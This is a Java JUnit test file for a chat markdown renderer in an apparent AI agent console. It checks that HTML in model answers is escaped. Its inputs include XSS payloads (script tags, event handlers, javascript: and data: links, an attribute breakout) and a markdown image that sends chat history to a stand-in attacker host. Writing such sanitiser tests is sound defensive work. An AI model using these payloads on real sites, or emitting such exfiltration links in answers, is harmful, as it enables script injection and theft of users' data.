package io.agentforge.console.chat;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class MarkdownRendererTests {

    private final MarkdownRenderer markdown = new MarkdownRenderer();

    @Test
    void rendersTheMarkdownModelsWrite() {
        String html =
                markdown.render("# Result\n\n**42** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                        + "```\nx = 1\n```\n\n[docs](https://example.org/docs)");

        assertThat(html)
                .contains(
                        "<h1>Result</h1>",
                        "<strong>42</strong>",
                        "<code>code</code>",
                        "<li>one</li>",
                        "<table>",
                        "<td>1</td>",
                        "<pre><code>x = 1",
                        "href=\"https://example.org/docs\"",
                        "rel=\"noopener noreferrer nofollow\"");
    }

    @Test
    void aScriptTagInAModelAnswerIsShownAsText() {
        String html = markdown.render(
                "Hello <script>alert('pwned')</script>\n\n<script src=\"https://evil.example/x.js\"></script>");

        assertThat(html).doesNotContain("<script").contains("&lt;script&gt;alert(");
    }

    @Test
    void htmlWithEventHandlersIsShownAsText() {
        String html =
                markdown.render("<img src=x onerror=alert(1)> <svg onload=alert(2)> <a href=# onclick=alert(3)>x</a>"
                        + "\n\n<div onmouseover=\"alert(4)\">hover</div>");

        assertThat(html)
                .doesNotContain("<img", "<svg", "<div", "<a href=#")
                .contains("&lt;img src=x onerror=alert(1)&gt;", "&lt;div onmouseover=");
    }

    @Test
    void scriptUrlsInLinksAreDropped() {
        String html = markdown.render("[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) "
                + "<javascript:alert(2)> [tab](<java\tscript:alert(3)>) [case](JaVaScRiPt:alert(4)) "
                + "[proto](//evil.example/x) [ok](/tools) [mail](mailto:ops@example.org)");

        assertThat(html)
                .doesNotContainPattern("href=\"[^\"]*(?i:script|data:|evil)")
                .contains("href=\"/tools\"", "href=\"mailto:ops@example.org\"");
    }

    @Test
    void imagesAreLinkedNeverLoaded() {
        String html =
                markdown.render("![secret](https://evil.example/collect?d=chat-history) ![](javascript:alert(1))");

        assertThat(html)
                .doesNotContain("<img", "javascript:")
                .contains("href=\"https://evil.example/collect?d=chat-history\"", "[image: secret]");
    }

    @Test
    void attributesCannotBeBrokenOutOf() {
        String html = markdown.render("[x](https://a.example/\"onmouseover=\"alert(1))");

        assertThat(html).doesNotContain("\"onmouseover=\"");
    }
}
